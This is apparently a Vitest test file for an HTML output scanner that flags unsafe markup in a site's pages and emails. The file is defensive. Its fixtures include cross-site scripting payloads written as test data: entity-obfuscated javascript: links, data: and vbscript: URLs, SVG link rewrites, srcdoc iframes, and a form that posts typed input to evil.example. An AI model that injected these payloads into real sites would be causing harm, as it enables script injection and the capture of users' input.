import { describe, expect, test } from 'vitest';
import { cssUrls, isOwnScript, scanHtml } from './scan-output.ts';

const ORIGIN = 'https://learning.example';

describe('scanHtml', () => {
  test('collects the links and ids a page holds', () => {
    const page = scanHtml('<main id="m"><a href="/a/">a</a><img src="/i.png" srcset="/i.png 1x, /i2.png 2x" alt=""><form action="/search/"></form><a name="old"></a><link rel="stylesheet" href="/s.css"></main>');
    expect(page.links).toEqual(['/a/', '/i.png', '/i.png', '/i2.png', '/search/', '/s.css']);
    expect(page.ids).toEqual(['m', 'old']);
    expect(page.blocked).toEqual([]);
  });

  test.each([
    ['<script>alert(1)</script>', 'an inline <script>'],
    ['<script type="module">go()</script>', 'an inline <script>'],
    ['<p style="color:red">x</p>', 'a style="color:red" attribute'],
    ['<style>p{}</style>', 'an inline <style> element'],
  ])('%s is reported as blocked by the policy', (html, what) => {
    expect(scanHtml(html).blocked.join()).toContain(what);
  });

  // What no output may carry, CSP or not: the defence in depth after rendering.
  test.each([
    ['<button onclick="go()">Go</button>', 'an event handler onclick="go()" on <button>'],
    ['<svg><a onmouseover="go()"><text>x</text></a></svg>', 'an event handler onmouseover'],
    ['<a href="javascript:go()">x</a>', 'a javascript: address in href="javascript:go()" on <a>'],
    ['<a href="java&#x09;script:go()">x</a>', 'a javascript: address in href="java\\tscript:go()" on <a>'],
    ['<a href="&#x20;JaVaScRiPt&colon;go()">x</a>', 'a javascript: address'],
    ['<a href="jav&#10;ascript:go()">x</a>', 'a javascript: address'],
    ['<a href="data:text/html,<script>go()</script>">x</a>', 'a data: address in href'],
    ['<a href="vbscript:go">x</a>', 'a vbscript: address'],
    ['<form action="javascript:go()"></form>', 'a javascript: address in action'],
    ['<svg><a xlink:href="javascript:go()"><text>x</text></a></svg>', 'a javascript: address in href'],
    ['<svg><a href="/"><set attributeName="href" to="javascript:go()"/><text>x</text></a></svg>', 'an SVG <set> that rewrites a link'],
    ['<iframe src="https://video.example/embed/1"></iframe>', 'an <iframe>'],
    ['<iframe srcdoc="&lt;script&gt;go()&lt;/script&gt;"></iframe>', 'a srcdoc attribute on <iframe>'],
    ['<div srcdoc="x">x</div>', 'a srcdoc attribute on <div>'],
    ['<object data="/x.swf"></object>', 'an <object>'],
    ['<embed src="/x.swf">', 'an <embed>'],
    ['<base href="https://evil.example/">', 'a <base> element'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'a <meta http-equiv="refresh">'],
    ['<img src="https://tracker.example/p.gif" alt="">', 'an image from another site (https://tracker.example) on <img>'],
    ['<img src="//tracker.example/p.gif" alt="">', 'an image from another site (https://tracker.example)'],
    ['<img src="/a.png" srcset="https://tracker.example/p.gif 2x" alt="">', 'an image from another site (https://tracker.example)'],
    ['<img src="data:image/png;base64,AAAA" alt="">', 'a data: address in src'],
    ['<video src="/v.mp4" poster="https://tracker.example/p.jpg"></video>', 'an image from another site (https://tracker.example) on <video>'],
    ['<form action="https://evil.example/collect"><input name="q"></form>', 'a form that sends what is typed to another site (https://evil.example)'],
    ['<form action="/search/"><button formaction="https://evil.example/">Go</button></form>', 'a form that sends what is typed to another site'],
    ['<script src="https://cdn.example/x.js"></script>', 'a script from another site (https://cdn.example)'],
    ['<link rel="stylesheet" href="https://fonts.example/x.css">', '<link href> loads from another site (https://fonts.example)'],
    ['<a href="/x/" ping="https://tracker.example/">x</a>', 'a ping attribute on <a>'],
    ['<script type="application/ld+json">{"url":"javascript:go()"}</script>', 'in its JSON-LD, a javascript: address in "url"'],
  ])('%s is refused in any output', (html, what) => {
    expect(scanHtml(html, { origin: ORIGIN }).refused.join('\n')).toContain(what);
    expect(scanHtml(html, { origin: ORIGIN, kind: 'email' }).refused.join('\n')).toContain(what);
  });

  test.each([
    ['<script src="/scripts/exit.js"></script>', 'a <script>'],
    ['<script>go()</script>', 'a <script>'],
    ['<form action="/search/"></form>', 'a <form>'],
    ['<input type="search">', 'an email cannot hold a form'],
    ['<table><tr><td style="background:url(https://tracker.example/p.gif)">x</td></tr></table>', 'a style attribute that loads something'],
    ['<style>@import "https://fonts.example/x.css";</style>', 'a <style> element that loads something'],
  ])('%s is refused in an email', (html, what) => {
    expect(scanHtml(html, { origin: ORIGIN, kind: 'email' }).refused.join('\n')).toContain(what);
  });

  test.each([
    ['<a href="https://www.gov.uk/">a link to another site</a>'],
    ['<a href="mailto:team@example.org">mail</a><a href="tel:+441234">phone</a>'],
    ['<img src="https://learning.example/cards/a.png" alt=""><img src="/a.png" alt="">'],
    ['<link rel="canonical" href="https://learning.example/x/"><link rel="alternate" type="application/atom+xml" href="https://other.example/feed.xml">'],
    ['<form action="/search/"><input type="search" name="q"></form>'],
    ['<p>javascript: is only text here</p>'],
  ])('%s is allowed on a page', (html) => {
    expect(scanHtml(html, { origin: ORIGIN }).refused).toEqual([]);
  });

  test('an email may carry inline styles that load nothing', () => {
    const email = scanHtml('<style>@media (max-width: 620px) { .c { width: 100% !important; } }</style><table><tr><td style="color:#fff;background-color:#000">x</td></tr></table>', { kind: 'email' });
    expect(email.refused).toEqual([]);
    expect(email.blocked).toEqual([]);
  });

  test('records the security tags a page carries', () => {
    const page = scanHtml('<head><meta http-equiv="Content-Security-Policy" content="default-src \'self\'"><meta name="referrer" content="same-origin"></head>');
    expect(page).toMatchObject({ policy: "default-src 'self'", referrer: 'same-origin' });
  });

  test.each([
    ['<script type="application/ld+json">{"@type":"Article"}</script>'],
    ['<script src="/_astro/a.js" type="module"></script>'],
  ])('%s is allowed by the policy', (html) => {
    expect(scanHtml(html).blocked).toEqual([]);
  });
});

describe('isOwnScript', () => {
  test.each([
    ['_astro/search.js', true],
    ['scripts/exit-this-page.js', true],
    ['admin/decap-cms.js', true],
    ['reports/evil.js', false],
    ['reviews/x/evil.js', false],
  ])('%s is one of the build\'s own scripts: %s', (file, own) => {
    expect(isOwnScript(file)).toBe(own);
  });
});

describe('cssUrls', () => {
  test('finds url() and @import, but not data: URLs', () => {
    expect(cssUrls('@import "/base.css";a{background:url(/a.png)}b{background:url("x.svg")}c{background:url(data:image/png;base64,AA)}')).toEqual(['/a.png', 'x.svg', '/base.css']);
  });
});
